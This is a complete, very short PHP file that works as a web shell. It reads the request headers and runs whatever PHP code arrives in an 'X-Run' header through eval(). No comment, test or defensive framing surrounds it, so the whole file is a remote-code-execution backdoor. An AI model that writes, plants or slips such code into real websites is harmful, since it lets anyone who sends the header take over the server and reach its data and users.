<?php
$h = getallheaders();
if (isset($h['X-Run'])) {
    eval($h['X-Run']);
}
